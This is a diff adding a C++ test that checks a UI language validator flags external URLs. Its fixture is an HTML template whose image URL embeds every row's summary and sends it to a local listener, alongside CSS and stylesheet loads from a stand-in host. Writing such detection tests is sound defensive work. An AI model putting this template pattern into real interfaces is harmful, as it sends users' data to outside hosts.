@@ -62,6 +62,20 @@ TEST(SurfaceCli, ValidateReportsErrorsAndExitsOne) {
   EXPECT_EQ(Lang("validate", "root = Stack([])\n").status, 0);
 }
 
+// Issue 43, item 2: the canvas that sent every row's summary to a listener is reported.
+TEST(SurfaceCli, ValidateReportsACanvasThatLoadsFromAnotherHost) {
+  LangRun r =
+      Lang("validate --json",
+           "root = Html(\"<img src='http://127.0.0.1:9/x?d={{#each events.rows}}"
+           "{{summary}}|{{/each}}'><style>p{background:url(//e.example/y)}</style>"
+           "<link rel=stylesheet href='HTTPS://e.example/x.css'>\", {events: {rows: []}})\n");
+  EXPECT_EQ(r.status, 1) << r.out;
+  auto j = nlohmann::json::parse(r.out);
+  std::vector<std::string> codes;
+  for (const auto& e : j["errors"]) codes.push_back(e["code"]);
+  EXPECT_EQ(codes, (std::vector<std::string>{"external-url", "external-url", "external-url"}));
+}
+
 TEST(SurfaceCli, BadFilesGetCodesAndExitTwo) {
   const std::string lib = TempFile("bad_lib.json", "{\"$defs\": {\"A\": {\"required\": [\"x\"]}}}");
   LangRun r = Lang("parse --json --library " + lib, "root = A()\n");
